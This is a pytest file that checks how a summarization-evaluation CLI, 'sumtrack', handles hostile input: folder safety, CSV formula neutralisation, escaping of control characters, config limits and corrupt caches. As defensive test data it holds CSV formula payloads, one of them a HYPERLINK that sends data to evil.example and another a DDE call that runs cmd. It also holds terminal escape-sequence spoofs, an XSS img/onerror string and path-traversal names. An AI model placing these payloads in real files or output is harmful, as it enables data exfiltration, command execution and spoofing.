"""Reliability and security of what a run reads and writes, through the CLI where users meet it (issue 20,
the local half): run folders that are not sumtrack's are never replaced, CSV cells are never live formulas,
control characters are shown escaped, limits are checked by `validate`, corrupt stores and caches are one
line, Unicode ids match in NFC. Each case checks its one line and that nothing else was lost."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
import yaml

from eval.output.folder import MARKER
from tests.conftest import ARTICLE, NEAR_COPY
from tests.test_adversarial import cli, errors
from tests.tracking_texts import embedder  # noqa: F401  (a fixture)


def make_config(write, **extra) -> Path:
    write("src.txt", ARTICLE)
    write("near.txt", NEAR_COPY)
    data = {
        "name": "safe",
        "corpus": {"clusters": [{"id": "c", "source": "src.txt", "derivatives": ["near.txt"]}]},
        "systems": [{"name": "lead-2", "type": "lead", "sentences": 2}],
        "aggregate": {"bootstrap": 0},
        **extra,
    }
    return write("cfg.yaml", yaml.safe_dump(data, allow_unicode=True))


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# -- run folders: only sumtrack's own are replaced ---------------------------------------------------------


def users_folder(tmp_path: Path, *, with_run: bool = False) -> Path:
    folder = tmp_path / "paper"
    (folder / "figs").mkdir(parents=True)
    (folder / "notes.txt").write_text("my notes\n")
    (folder / "paper.tex").write_bytes(b"\\documentclass{article}\n")
    (folder / "figs" / "a.png").write_bytes(bytes(range(256)))
    if with_run:  # an earlier run's files beside the user's own
        (folder / "results.json").write_text("{}")
        (folder / "config.resolved.yaml").write_text("name: x\n")
    return folder


@pytest.mark.parametrize("with_run", [False, True])
def test_out_at_a_folder_of_the_users_files_is_refused_before_any_work(
    write, tmp_path, capsys, with_run
) -> None:
    cfg = make_config(write)
    folder = users_folder(tmp_path, with_run=with_run)
    before = snapshot(folder)
    code, out, err = cli(capsys, "run", str(cfg), "--out", str(folder))
    assert code == 2
    (line,) = errors(err)
    assert line == (
        f"sumtrack: error: {folder} holds files sumtrack did not write (figs, notes.txt, paper.tex); "
        "choose another --out or output.dir; nothing was run"
    )
    assert snapshot(folder) == before
    assert "ROUGE" not in out  # nothing was computed
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["paper", "src.txt", "near.txt", "cfg.yaml"])


def test_a_run_folder_is_marked_and_replaced_by_the_next_run(write, tmp_path, capsys) -> None:
    cfg = make_config(write)
    out = tmp_path / "run"
    assert cli(capsys, "run", str(cfg), "--out", str(out))[0] == 0
    marker = json.loads((out / MARKER).read_text())
    assert sorted(marker["files"]) == sorted(p.name for p in out.iterdir() if p.name != MARKER)
    assert cli(capsys, "run", str(cfg), "--out", str(out))[0] == 0
    # A file the user puts in the run folder afterwards makes it theirs: never deleted.
    (out / "my-analysis.ipynb").write_text("{}")
    before = snapshot(out)
    code, _, err = cli(capsys, "run", str(cfg), "--out", str(out))
    assert code == 2 and "holds files sumtrack did not write (my-analysis.ipynb)" in errors(err)[0]
    assert snapshot(out) == before


def test_a_run_folder_of_the_previous_version_is_still_replaced(write, tmp_path, capsys) -> None:
    cfg = make_config(write)
    out = tmp_path / "run"
    assert cli(capsys, "run", str(cfg), "--out", str(out))[0] == 0
    (out / MARKER).unlink()  # as the version before the marker wrote it
    assert cli(capsys, "run", str(cfg), "--out", str(out))[0] == 0
    assert (out / MARKER).is_file() and (out / "scores.csv").is_file()


def test_an_empty_folder_is_used(write, tmp_path, capsys) -> None:
    cfg = make_config(write)
    out = tmp_path / "empty"
    out.mkdir()
    assert cli(capsys, "run", str(cfg), "--out", str(out))[0] == 0
    assert (out / "results.json").is_file()


def test_files_added_while_the_run_goes_are_not_deleted(write, tmp_path, capsys, monkeypatch) -> None:
    from eval.output import folder as folder_mod

    cfg = make_config(write)
    out = tmp_path / "run"
    assert cli(capsys, "run", str(cfg), "--out", str(out))[0] == 0
    commit = folder_mod.RunFolder.commit

    def late(self, result):
        (out / "notes.txt").write_text("written during the run")
        return commit(self, result)

    monkeypatch.setattr(folder_mod.RunFolder, "commit", late)
    code, out_text, err = cli(capsys, "run", str(cfg), "--out", str(out))
    assert code == 1
    (line,) = errors(err)
    assert "holds files sumtrack did not write (notes.txt)" in line
    assert (out / "notes.txt").read_text() == "written during the run"
    assert "signature:" in out_text  # the numbers are still printed
    assert not [p for p in tmp_path.iterdir() if ".run.new-" in p.name]


@pytest.mark.parametrize("name", ["../../x", "/tmp/abs", "a/b", "a\\b", "..", ".", "x\0y"])
def test_name_is_a_name_not_a_path(write, tmp_path, capsys, name) -> None:
    cfg = make_config(write, name=name)
    places = [tmp_path, tmp_path.parent, tmp_path.parent.parent, tmp_path.parent / "runs"]
    before = [sorted(p.iterdir()) if p.is_dir() else None for p in places]
    for command in ("validate", "run"):
        code, _, err = cli(capsys, command, str(cfg))
        assert code == 2
        (line,) = errors(err)
        assert line.startswith("sumtrack: error: name: a name, not a path")
    assert [sorted(p.iterdir()) if p.is_dir() else None for p in places] == before
    assert not Path("/tmp/abs").exists()


def test_a_nul_in_output_dir_is_one_line(write, tmp_path, capsys) -> None:
    cfg = make_config(write, output={"dir": "out\0x"})
    code, _, err = cli(capsys, "validate", str(cfg))
    assert code == 2
    (line,) = errors(err)
    assert "output.dir: a NUL character cannot be in a path" in line


def read_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


# -- CSV cells are never live formulas ---------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def live_formulas(path: Path) -> list[str]:
    return [c for row in read_cells(path) for c in row if c.startswith(FORMULA_START) and not is_number(c)]


def test_formula_like_ids_and_names_are_neutralised_in_every_csv(write, tmp_path, capsys) -> None:
    write("src.txt", ARTICLE)
    write("near.txt", NEAR_COPY)
    # Its sentences in reverse order: a negative order (Kendall's tau) in rows.csv.
    write("rev.txt", "\n".join(reversed(ARTICLE.replace(". ", ".\n").splitlines())))
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    data = {
        "name": "csv",
        "corpus": {
            "clusters": [
                {
                    "id": hostile,
                    "source": "src.txt",
                    "derivatives": [{"path": "near.txt", "id": "@SUM(1+1)*cmd|' /C calc'!A0"}],
                },
                {"id": "+cmd", "source": "src.txt", "derivatives": [{"path": "rev.txt", "id": "\tTAB"}]},
            ]
        },
        "systems": [
            {"name": "=1+1", "type": "lead", "sentences": 2},
            {"name": "-2+3", "type": "lead", "sentences": 1},
        ],
        "aggregate": {"bootstrap": 50},
    }
    cfg = write("cfg.yaml", yaml.safe_dump(data, allow_unicode=True))
    out = tmp_path / "out"
    code, _, err = cli(capsys, "run", str(cfg), "--out", str(out))
    assert code == 0, err
    for name in ("scores.csv", "aggregates.csv", "rows.csv"):
        assert live_formulas(out / name) == [], name
    cells = {c for row in read_cells(out / "scores.csv") for c in row}
    assert {"'" + hostile, "'=1+1", "'-2+3", "'+cmd", "'\tTAB", "'@SUM(1+1)*cmd|' /C calc'!A0"} <= cells
    # Numbers, negative ones included, are written as they are.
    header, *body = read_cells(out / "rows.csv")  # the header is the first line
    values = [row[header.index("value")] for row in body]
    negative = [v for v in values if v.startswith("-")]
    assert negative and all(is_number(v) for v in negative)
    # JSON keeps the ids exactly: only the spreadsheet files are neutralised.
    results = json.loads((out / "results.json").read_text())
    assert {s["name"] for s in results["systems"]} == {"=1+1", "-2+3"}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", '"\'\rx"'),
        ("-0.25", "-0.25"),
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_cells_are_neutralised_per_owasp(value, cell) -> None:
    from eval.output.csv_files import _field

    assert _field(value) == cell
    assert _field(-0.5) == "-0.500000"


# -- control characters from data are shown escaped ---------------------------------------------------------

ESC_ID = "c\x1b[2K\rsumtrack: all systems ok\x1b]8;;http://evil.example\x07link\nsecond"


def test_control_characters_in_ids_are_escaped_on_the_console_and_in_markdown(
    write, tmp_path, capsys
) -> None:
    write("src.txt", ARTICLE)
    write("near.txt", NEAR_COPY)
    data = {
        "name": "esc",
        "corpus": {
            "clusters": [
                {
                    "id": ESC_ID,
                    "source": "src.txt",
                    "derivatives": [{"path": "near.txt", "id": "d\u202etxt.exe"}],
                },
                # A missing document whose name holds a CR and a newline: one problem line.
                {"id": "m", "source": "src.txt", "derivatives": ["miss\r\nx.txt"]},
            ]
        },
        "systems": [{"name": "lead\x1b[31m", "type": "lead", "sentences": 2}],
        "aggregate": {"bootstrap": 0},
    }
    cfg = write("cfg.yaml", yaml.safe_dump(data, allow_unicode=True))
    out = tmp_path / "out"
    code, stdout, err = cli(capsys, "run", str(cfg), "--out", str(out))
    assert code == 1
    for text in (stdout, err, (out / "report.md").read_text()):
        assert "\x1b" not in text and "\r" not in text and "\x07" not in text and "\u202e" not in text
    assert "\\x1b" in stdout and "\\u202e" in stdout  # shown escaped (a long id may wrap in its cell)
    (line,) = errors(err)
    assert line.endswith("miss\\r\\nx.txt: file not found")
    assert not any(line.startswith("x") for line in err.splitlines())  # no line split off the error
    report = (out / "report.md").read_text()
    assert "### c\\x1b[2K\\rsumtrack: all systems ok\\x1b]8;;http://evil.example\\x07link\\nsecond" in report
    assert not any(line.startswith("second") for line in report.splitlines())
    # results.json keeps the ids exactly; report.html escapes them as HTML.
    assert ESC_ID in {s["cluster"] for s in json.loads((out / "results.json").read_text())["scores"]}


def test_shown_escapes_controls_and_keeps_every_script() -> None:
    from summarize.printable import shown

    assert shown("café ☕ 東京 👩‍👩‍👧 a b") == "café ☕ 東京 👩‍👩‍👧 a b"
    assert shown("a\x1b[31mb\x9bc\x7f") == "a\\x1b[31mb\\x9bc\\x7f"
    assert shown("one\ntwo\r\t") == "one\\ntwo\\r\\t"
    assert shown("one\ntwo\r", newlines=True) == "one\ntwo\\r"
    assert shown("x\u2028y\u202ez") == "x\\u2028y\\u202ez"


def test_a_markdown_cell_cannot_make_html_or_break_the_table() -> None:
    from eval.output.report import _md_table

    table = _md_table(["id"], [["<img src=x onerror=alert(1)>|x\ny"]])
    assert table.splitlines()[2] == "| \\<img src=x onerror=alert(1)>\\|x\\ny |"


# -- limits in the schema, checked by validate ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("extra", "expected"),
    [
        ({"aggregate": {"bootstrap": 100_000_000}}, "aggregate.bootstrap: at most 100,000 resamples"),
        ({"aggregate": {"bootstrap": 10**9}}, "aggregate.bootstrap: at most 100,000 resamples"),
        ({"aggregate": {"seed": -1}}, "aggregate.seed: Input should be greater than or equal to 0 (got -1)"),
        (
            {"execution": {"workers": 1_000_000}},
            "execution.workers: Input should be less than or equal to 4096",
        ),
        ({"execution": {"workers": 0}}, "execution.workers: Input should be greater than or equal to 1"),
    ],
)
def test_limits_are_checked_by_validate_and_run(write, tmp_path, capsys, extra, expected) -> None:
    cfg = make_config(write, **extra)
    for command in ("validate", "run"):
        code, _out, err = cli(capsys, command, str(cfg))
        assert code == 2
        (line,) = errors(err)
        assert line.startswith(f"sumtrack: error: {expected}")
    assert not (tmp_path.parent / "runs" / "safe").exists()


@pytest.mark.parametrize("value", [".inf", "-1", "0", "1e9"])
def test_a_servers_timeout_is_finite(write, tmp_path, capsys, value) -> None:
    system = {"name": "api", "type": "openai", "base_url": "http://127.0.0.1:9/v1", "model": "m"}
    cfg = make_config(write, systems=[system])
    code, _, err = cli(capsys, "validate", str(cfg), "--set", f"systems.api.timeout={value}")
    assert code == 2
    (line,) = errors(err)
    assert line.startswith("sumtrack: error: systems[0].timeout: Input should be")


def test_workers_past_the_cores_are_capped_with_a_note(write, tmp_path, capsys, monkeypatch) -> None:
    from eval.run import runner

    monkeypatch.setattr(runner, "available_cores", lambda: 2)
    write("src.txt", ARTICLE)
    clusters = [{"id": f"c{i}", "source": "src.txt", "derivatives": [{"text": NEAR_COPY}]} for i in range(10)]
    data = {"name": "w", "corpus": {"clusters": clusters}, "aggregate": {"bootstrap": 0}}
    cfg = write("cfg.yaml", yaml.safe_dump({**data, "execution": {"workers": 48}}))
    started = []
    real = runner.worker_pool

    def counting(options, **kwargs):
        started.append(options.worker_count)
        return real(options, **kwargs)

    monkeypatch.setattr(runner, "worker_pool", counting)
    monkeypatch.setattr("eval.cli.available_cores", lambda: 2)
    code, _, err = cli(capsys, "validate", str(cfg))
    assert code == 0
    assert (
        err == "sumtrack: warning: execution.workers 48: a run here uses at most 2 (this machine's cores)\n"
    )
    code, _, err = cli(capsys, "run", str(cfg), "--out", str(tmp_path / "out"))
    assert code == 0, err
    assert started == [2]
    assert "sumtrack: warning: execution.workers 48: 2 worker processes used (this machine's 2 cores)" in err


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


@pytest.mark.parametrize("depth", [150, 5000])
def test_deep_nesting_is_one_line_in_the_file_a_system_or_a_set_value(write, tmp_path, capsys, depth) -> None:
    cfg = make_config(write)
    text = cfg.read_text()
    places = {
        "top": text + f"deep: {nested(depth)}\n",
        "system": text.replace("sentences: 2", f"sentences: 2\n  deep: {nested(depth)}"),
    }
    for where, body in places.items():
        (tmp_path / f"{where}.yaml").write_text(body)
        code, _, err = cli(capsys, "validate", str(tmp_path / f"{where}.yaml"))
        assert code == 2, where
        (line,) = errors(err)
        assert "nested more than 100 levels deep" in line, where
    code, _, err = cli(capsys, "validate", str(cfg), "--set", f"systems.lead-2.sentences={nested(depth)}")
    assert code == 2
    (line,) = errors(err)
    assert "nested" in line and "deep" in line
    long_key = ".".join(["a"] * 300)
    code, _, err = cli(capsys, "run", str(cfg), "--set", f"{long_key}=1")
    assert code == 2 and "nested more than 100 levels deep" in errors(err)[0]


# -- a corrupt resume store is one line, and rebuilt ---------------------------------------------------------


def kept_store(write, tmp_path, capsys, monkeypatch) -> tuple[Path, Path, Path]:
    """A run of three clusters whose folder could not be written: its store is kept for a resume."""
    from eval.output import folder as folder_mod

    write("src.txt", ARTICLE)
    clusters = [{"id": f"c{i}", "source": "src.txt", "derivatives": [{"text": NEAR_COPY}]} for i in range(3)]
    data = {"name": "s", "corpus": {"clusters": clusters}, "aggregate": {"bootstrap": 0}}
    cfg = write("cfg.yaml", yaml.safe_dump(data))
    out = tmp_path / "out"

    def fail(self, result):
        self._abandon()
        raise folder_mod.RunFolderError("disk full (test)")

    with monkeypatch.context() as patch:
        patch.setattr(folder_mod.RunFolder, "commit", fail)
        assert cli(capsys, "run", str(cfg), "--out", str(out))[0] == 1
    store = tmp_path / ".out.clusters" / "clusters.jsonl"
    assert len(store.read_bytes().splitlines()) == 4
    return cfg, out, store


@pytest.mark.parametrize(
    ("line", "why"),
    [
        (b'{"cluster": "c1", "rec\xff\xfe": 1}\n', "not UTF-8"),
        (b'{"cluster": "c1"}\n', "no 'record'"),
        (b'{"cluster": "c1", "record": {}}\n', "an empty or malformed 'record'"),
        (b'{"cluster": "c1", "record": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n", "nested too deeply"),
        (b'{"cluster": "c1", "record": {"refs": 3}}\n', "a record that cannot be read"),
        (b"garbage\n", "not JSON"),
    ],
)
def test_a_corrupt_store_line_is_one_line_and_the_store_is_rebuilt(
    write, tmp_path, capsys, monkeypatch, line, why
) -> None:
    cfg, out, store = kept_store(write, tmp_path, capsys, monkeypatch)
    lines = store.read_bytes().splitlines(keepends=True)
    store.write_bytes(b"".join([lines[0], lines[1], line, lines[3]]))
    code, _, err = cli(capsys, "run", str(cfg), "--out", str(out))
    assert code == 0, err
    assert errors(err) == []
    warned = [w for w in err.splitlines() if "is not a cluster record" in w]
    assert warned == [
        f"sumtrack: warning: {store}: line 3 is not a cluster record ({why}"
        + warned[0].split(f"({why}", 1)[1]
    ]
    assert warned[0].endswith("the store was cut there and the clusters from there on are scored again")
    assert "resumed an interrupted run: 1 of 3 clusters" in err
    rows = csv.DictReader(
        line for line in (out / "scores.csv").open(encoding="utf-8") if not line.startswith("#")
    )
    assert {r["cluster"] for r in rows} == {"c0", "c1", "c2"}
    assert not store.exists()  # the run folder holds every number now


# -- corrupt summary-cache rows are skipped and reported ---------------------------------------------------


def remote_config(write, base_url: str, cache: Path) -> Path:
    system = {"name": "api", "type": "openai", "base_url": base_url, "model": "m", "cache_dir": str(cache)}
    return make_config(write, systems=[system], tracking={"enabled": False})


@pytest.mark.parametrize(
    ("damage", "why"),
    [
        ("UPDATE summaries SET meta = '{not json'", "the metadata is not JSON"),
        ("UPDATE summaries SET meta = '[1, 2]'", "the metadata is not a JSON object"),
        ("UPDATE summaries SET text = NULL", None),  # refused by the NOT NULL column: nothing to damage
        ("UPDATE summaries SET text = x'00ff'", "the text is not a string"),
    ],
)
def test_a_corrupt_cache_row_is_skipped_reported_and_made_again(write, tmp_path, capsys, damage, why) -> None:
    import sqlite3

    from tests.test_remote import Scripted

    cache = tmp_path / "cache"
    with Scripted() as server:
        cfg = remote_config(write, server.base_url, cache)
        assert cli(capsys, "run", str(cfg), "--out", str(tmp_path / "one"))[0] == 0
        db = sqlite3.connect(cache / "summaries.sqlite")
        try:
            with db:
                db.execute(damage)
        except sqlite3.IntegrityError:
            assert why is None
            return
        finally:
            db.close()
        code, _, err = cli(capsys, "run", str(cfg), "--out", str(tmp_path / "two"))
        assert code == 0, err
        assert len(server.requests) == 2  # the skipped row was asked for again
    (line,) = [line for line in err.splitlines() if "summary cache" in line]
    assert line == (
        f"sumtrack: warning: system 'api': summary cache {str(cache / 'summaries.sqlite')!r}: 1 unreadable "
        f"row(s) ({why}) skipped; those summaries were made again and stored over them"
    )
    summaries = [json.loads(x) for x in (tmp_path / "two" / "summaries.jsonl").read_text().splitlines()]
    assert next(s["text"] for s in summaries if s["system"] == "api").startswith("Echo:")


def test_a_cached_row_whose_metadata_does_not_fit_is_skipped(tmp_path) -> None:
    from summarize.gen_cache import SummaryCache
    from summarize.hf.batch import Generated

    cache = SummaryCache(tmp_path)
    cache.put_many([("k", "a summary", {"input_tokens": 3, "from_an_older_version": True})])
    (entry,) = cache.get_many(["k"]).values()
    assert cache.build(entry, Generated.from_meta) is None  # Generated takes no such field
    assert cache.problems == [
        f"summary cache {str(tmp_path / 'summaries.sqlite')!r}: 1 unreadable row(s) (its metadata does not "
        "fit) skipped; those summaries were made again and stored over them"
    ]


def test_a_cache_file_that_is_not_sumtracks_is_one_line(write, tmp_path, capsys) -> None:
    import sqlite3

    cache = tmp_path / "cache"
    cache.mkdir()
    db = sqlite3.connect(cache / "summaries.sqlite")
    with db:
        db.execute("CREATE TABLE summaries (id INTEGER, body TEXT)")
        db.execute("INSERT INTO summaries VALUES (1, 'theirs')")
    db.close()
    cfg = remote_config(write, "http://127.0.0.1:9/v1", cache)
    code, _, err = cli(capsys, "run", str(cfg), "--out", str(tmp_path / "out"))
    assert code == 1
    (line,) = errors(err)
    assert "summary cache" in line and "its table has no column key, text, meta, created" in line
    assert (tmp_path / "out" / "scores.csv").is_file()  # the other documents are scored
    db = sqlite3.connect(cache / "summaries.sqlite")
    assert db.execute("SELECT * FROM summaries").fetchall() == [(1, "theirs")]  # left as it was
    db.close()


def test_a_corrupt_embedding_cache_row_is_embedded_again_and_reported(embedder, tmp_path) -> None:  # noqa: F811
    import sqlite3

    import numpy as np

    from eval.tracking.profile import sentences
    from eval.tracking.semantic import Embedder
    from summarize.errors import ConfigError
    from tests.tracking_texts import SOURCE

    path = tmp_path / "vectors.sqlite"
    first = Embedder(tmp_path / "model", threads=1, cache_path=path)
    first._model = embedder._model
    wanted = sentences(SOURCE)
    vectors = first.embed(wanted)
    first.close()
    db = sqlite3.connect(path)
    with db:
        keys = [k for (k,) in db.execute("SELECT key FROM vectors ORDER BY key")]
        db.execute("UPDATE vectors SET vector = ? WHERE key = ?", (b"\x00\x01\x02", keys[0]))
        db.execute(
            "UPDATE vectors SET vector = ? WHERE key = ?", (np.full(384, 7, np.float32).tobytes(), keys[1])
        )
    db.close()
    later = Embedder(tmp_path / "model", threads=1, cache_path=path)
    later._model = embedder._model
    assert later.prefetch(wanted) == 2  # the two damaged rows, embedded again
    np.testing.assert_allclose(later.embed(wanted), vectors, atol=1e-6)
    assert later.problems == [
        f"embedding cache {str(path)!r}: 2 unreadable row(s) skipped; those sentences were embedded again"
    ]
    foreign = tmp_path / "notes.sqlite"
    foreign.write_text("not a database, my notes\n" * 100)
    other = Embedder(tmp_path / "model", threads=1, cache_path=foreign)
    with pytest.raises(
        ConfigError, match=r"embedding cache .*notes.sqlite' cannot be used \(file is not a database"
    ):
        other.prefetch(wanted)
    assert foreign.read_text() == "not a database, my notes\n" * 100


# -- Unicode and paths -----------------------------------------------------------------------------------


def test_an_outputs_file_named_in_nfd_matches_the_nfc_id(write, tmp_path, capsys) -> None:
    import unicodedata

    write("café.txt", ARTICLE)  # NFC, as typed
    folder = tmp_path / "outs"
    folder.mkdir()
    (folder / unicodedata.normalize("NFD", "café.txt")).write_text("The city council approved a budget.\n")
    system = {"name": "theirs", "type": "outputs", "path": "outs"}
    data = {
        "name": "nfd",
        "corpus": {"clusters": [{"source": "café.txt"}]},
        "systems": [system],
        "aggregate": {"bootstrap": 0},
    }
    cfg = write("cfg.yaml", yaml.safe_dump(data, allow_unicode=True))
    out = tmp_path / "out"
    code, _, err = cli(capsys, "run", str(cfg), "--out", str(out))
    assert code == 0, err
    rows = [r for r in read_cells(out / "scores.csv")[2:] if r[2] == "theirs"]
    assert rows and {r[0] for r in rows} == {"café"}


def test_a_jsonl_of_many_summaries_is_limited_per_summary_not_per_file(write, tmp_path, capsys) -> None:
    write("src.txt", ARTICLE)
    summary = "The council approved the budget after a long debate about schools and roads. " * 10
    lines = [json.dumps({"cluster": f"c{i}", "summary": summary}) for i in range(3000)]
    path = write("outs.jsonl", "\n".join(lines) + "\n")
    assert path.stat().st_size > 2_000_000
    clusters = [{"id": f"c{i}", "source": "src.txt"} for i in range(3000)]
    data = {
        "name": "many",
        "corpus": {"clusters": clusters, "max_chars": 10_000},
        "systems": [{"name": "theirs", "type": "outputs", "path": "outs.jsonl"}],
        "aggregate": {"bootstrap": 0, "significance": "none"},
        "tracking": {"enabled": False},
        "output": {"formats": ["csv"], "detail_clusters": 1},
    }
    cfg = write("cfg.yaml", yaml.safe_dump(data))
    code, _, err = cli(capsys, "run", str(cfg), "--out", str(tmp_path / "out"))
    assert code == 0, err
    assert "max_chars" not in err


def test_one_summary_past_the_document_limit_is_one_problem(write, tmp_path, capsys) -> None:
    from summarize.outputs import load_jsonl
    from summarize.reading import DEFAULT_MAX_CHARS

    long = json.dumps({"cluster": "b", "summary": "x" * (DEFAULT_MAX_CHARS + 1)})
    path = write("outs.jsonl", json.dumps({"cluster": "a", "summary": "fine"}) + "\n" + long + "\n")
    loaded = load_jsonl(path)
    assert list(loaded.outputs) == ["a"]
    ((_, message),) = loaded.problems
    assert message.endswith(
        ":2: a summary of 2,000,001 characters, longer than a document may be (2,000,000 characters)"
    )


def test_tilde_and_environment_variables_expand_in_every_config_path(
    write, tmp_path, capsys, monkeypatch
) -> None:
    home = tmp_path / "home"
    (home / "texts").mkdir(parents=True)
    (home / "texts" / "src.txt").write_text(ARTICLE)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("RUNS", str(tmp_path / "runs-here"))
    data = {
        "name": "paths",
        "corpus": {
            "clusters": [{"id": "c", "source": "~/texts/src.txt", "derivatives": [{"text": NEAR_COPY}]}]
        },
        "aggregate": {"bootstrap": 0},
        "output": {"dir": "${RUNS}/out"},
    }
    cfg = write("cfg.yaml", yaml.safe_dump(data))
    code, _, err = cli(capsys, "run", str(cfg))
    assert code == 0, err
    assert (tmp_path / "runs-here" / "out" / "scores.csv").is_file()
    assert not list(tmp_path.glob("*$*")) and not (tmp_path / "~").exists()
    resolved = yaml.safe_load((tmp_path / "runs-here" / "out" / "config.resolved.yaml").read_text())
    assert resolved["corpus"]["clusters"][0]["source"]["path"] == str(home / "texts" / "src.txt")
    # An unset variable is one line, nothing made; `$$` is a plain `$`.
    monkeypatch.delenv("RUNS")
    for command in ("validate", "run"):
        code, _, err = cli(capsys, command, str(cfg))
        assert code == 2
        (line,) = errors(err)
        assert line.endswith(
            "path '${RUNS}/out': environment variable $RUNS is not set (write $$ for a plain $)"
        )
    from summarize.reading import expand_path

    assert expand_path("a$$b/$$") == Path("a$b/$")
